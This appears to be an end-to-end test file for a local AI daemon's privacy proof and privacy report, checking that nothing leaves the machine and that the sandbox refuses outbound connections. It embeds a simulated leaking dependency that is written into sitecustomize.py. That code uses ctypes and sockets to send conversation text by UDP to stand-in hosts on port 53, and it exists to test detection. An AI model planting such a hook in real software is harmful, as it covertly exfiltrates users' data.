"""`edged privacy`: the proof as an administrator runs it, and what it says where something leaves."""

from __future__ import annotations

import asyncio
import json
from datetime import datetime
from pathlib import Path

import pytest

from edged.client import Client
from edged.events import Text
from tests.e2e.program import Home, require_namespaces
from tests.sensing_artefact import sensing_artefact
from tests.tiny_artefact import tiny_artefact

LEAK = """
import ctypes, socket, struct, sys, threading

def phone_home():
    # In C, where Python sees nothing of it.
    libc = ctypes.CDLL(None)
    address = struct.pack("=H", socket.AF_INET) + struct.pack("!H", 53) + socket.inet_aton("192.0.2.10") + bytes(8)
    libc.sendto(libc.socket(socket.AF_INET, socket.SOCK_DGRAM, 0), b"said", 4, 0, address, len(address))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"everything that was said", ("192.0.2.9", 53))

if "serve" in sys.orig_argv:
    timer = threading.Timer(2, phone_home)
    timer.daemon = True
    timer.start()
"""
"""Part of every Python that starts: a dependency with a mind of its own."""
USES = [
    "text",
    "history",
    "picture",
    "picture in words",
    "recording",
    "voice",
    "HTTP",
    "tools",
    "embeddings",
    "transcription",
    "speech",
    "phone",
    "camera",
    "Wyoming",
    "device on the LAN",
]
OUTSIDE = ("UDP to 192.0.2.9 port 53", "UDP to 192.0.2.10 port 53")


def test_nothing_leaves_in_all_main_uses(home: Home, tmp_path: Path) -> None:
    require_namespaces("-rn")
    tiny_artefact(tmp_path)
    sensing_artefact(tmp_path)
    home.engines = tmp_path
    before = sorted(home.folder.rglob("*"))
    done = home.run("privacy", "prove", "--json", EDGED_VOICE__VOICE="espeak")
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert result["packets_out"] == 0 and result["packets"] == {} and result["refused_connections"] == 0
    assert result["uses"] == USES, result["left_out"]
    assert set(result["left_out"]) == {"mDNS", "microphone and speaker"} and "mDNS left out" in done.stderr
    assert sorted(home.folder.rglob("*")) == before  # nothing of the user's was touched


@pytest.mark.parametrize("is_guarded", [True, False])
def test_a_daemon_that_phones_home_is_found_out(home: Home, tmp_path: Path, is_guarded: bool) -> None:
    """The guard stops it and counts the attempt; without the guard, the packet itself is counted."""
    require_namespaces("-rn")
    (tmp_path / "sitecustomize.py").write_text(LEAK)
    guard = str(is_guarded).lower()
    environ = {"PYTHONPATH": str(tmp_path), "EDGED_PRIVACY__SANDBOX": guard, "EDGED_VOICE__VOICE": "espeak"}
    done = home.run("privacy", "prove", "--json", **environ)
    result = json.loads(done.stdout)
    assert result["refused_connections"] == (1 if is_guarded else 0)
    assert result["packets"] == ({} if is_guarded else dict.fromkeys(OUTSIDE, 1))
    assert done.returncode == (0 if is_guarded else 1)


async def test_the_report_says_what_is_enforced_refused_and_stored(home: Home, tmp_path: Path) -> None:
    (tmp_path / "sitecustomize.py").write_text(LEAK)
    home.extra |= {"PYTHONPATH": str(tmp_path), "EDGED_RETENTION__DAYS": "30"}
    with home.daemon() as daemon:
        async with Client(home.address) as client:
            for incognito in (True, False):
                async for _ in client.ask((Text(text="Hello"),), incognito=incognito, sampling={"max_tokens": 1}):
                    pass
        while "refused socket" not in daemon.log.read_text():
            assert daemon.process.poll() is None
            await asyncio.sleep(0.05)
        done = home.run("privacy", "report", "--json")
        assert done.returncode == 0, done.stderr
        told = json.loads(done.stdout)
        lines = home.run("privacy", "report").stdout
    assert {item["name"] for item in told["enforcements"]} == {
        "telemetry off",
        "no core files",
        "landlock",
        "landlock files",
        "seccomp",
        "audit hook",
    }
    assert told["refused_connections"] == 1 and told["refused_by_call"] == {"socket": 1}
    assert told["kernel_refusals_counted"] is False and told["microphone"] == "closed"
    store = told["store"]
    assert store["encrypted"] and store["database_bytes"] > 0 and "30 days" in store["retention"]
    kept = ("conversations", "messages", "incognito_conversations", "attachments", "voiceprints", "devices", "api_keys")
    assert [store[name] for name in kept] == [1, 2, 1, 0, 0, 0, 0]
    assert datetime.fromisoformat(store["oldest_message_at"]).tzinfo
    for part in (
        "1 connection of Python code refused since the daemon started (socket 1); what the kernel refuses is not",
        "microphone closed",
        "stored: 1 conversation, 2 messages, the oldest of 2",
        "stored: 0 pictures and recordings (0 B), 0 voiceprints, 0 paired devices, 0 API keys",
        "in memory alone: 1 incognito conversation",
        "30 days after their last use",
    ):
        assert part in lines, lines


def test_without_a_daemon_there_is_nothing_to_report(home: Home) -> None:
    done = home.run("privacy", "report")
    assert done.returncode == 1 and "edged serve" in done.stderr
